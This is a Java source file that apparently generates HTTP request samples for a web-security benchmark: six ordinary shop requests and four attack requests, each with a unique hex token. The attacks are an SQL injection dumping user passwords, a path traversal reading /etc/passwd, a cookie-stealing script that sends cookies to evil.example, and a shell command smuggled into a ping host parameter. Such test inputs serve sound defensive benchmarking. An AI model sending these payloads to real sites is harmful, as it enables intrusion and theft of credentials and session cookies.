package axon.bench;

import java.util.List;

/**
 * Ten requests, six of ordinary visitors and four attacks, each with room for ten hexadecimal
 * digits that make it unique: the same as in {@code wrk/distinct.lua}.
 */
final class Mix {
  private static final String MARK = "0123456789";
  private static final String COMMON =
      """
      Host: shop.example
      User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0
      Accept: text/html,application/xhtml+xml
      Accept-Language: en-US,en;q=0.5
      Cookie: session=0af7651916cd43dd8448eb211c80319c; theme=dark
      """
          .replace("\n", "\r\n");
  private static final String FORM = "application/x-www-form-urlencoded";
  private static final List<String> TEXTS =
      List.of(
          get("/?v=" + MARK),
          get("/products/list?page=" + MARK + "&sort=price&dir=asc"),
          get("/static/js/app." + MARK + ".js"),
          post("/login?r=" + MARK, FORM, "username=alice&password=correct+horse&remember=1"),
          post(
              "/api/v1/items/" + MARK,
              "application/json",
              "{\"name\":\"green tea\",\"qty\":3,\"tags\":[\"hot\",\"leaf\"],\"note\":\"please"
                  + " wrap\"}"),
          get("/search?q=union+square+" + MARK),
          get(
              "/item.php?n="
                  + MARK
                  + "&id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
          get("/download?n=" + MARK + "&file=../../../../etc/passwd"),
          post(
              "/comment/" + MARK,
              FORM,
              "text=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%27"
                  + "%2Bdocument.cookie%3C%2Fscript%3E"),
          get("/cgi-bin/ping?n=" + MARK + "&host=127.0.0.1;cat%20/etc/passwd"));
  private static final long TEN_DIGITS = (1L << 40) - 1;

  private final List<byte[]> templates = TEXTS.stream().map(Wire::bytes).toList();
  private final List<Integer> marks = TEXTS.stream().map(text -> text.indexOf(MARK)).toList();

  private static String get(String target) {
    return "GET " + target + " HTTP/1.1\r\n" + COMMON + "\r\n";
  }

  private static String post(String target, String type, String body) {
    return "POST %s HTTP/1.1\r\n%sContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s"
        .formatted(target, COMMON, type, body.length(), body);
  }

  /** {@return the request of this number, whole; another number never gives the same bytes} */
  byte[] request(long number) {
    int kind = (int) (number % templates.size());
    byte[] bytes = templates.get(kind).clone();
    byte[] digits = Wire.bytes(token(number));
    System.arraycopy(digits, 0, bytes, marks.get(kind), digits.length);
    return bytes;
  }

  /** {@return the ten digits that stand in the target of request {@code number}} */
  static String token(long number) {
    long scrambled = (number * 0x9E375L) & TEN_DIGITS;
    String hex = Long.toHexString(scrambled);
    return "0".repeat(10 - hex.length()) + hex;
  }
}
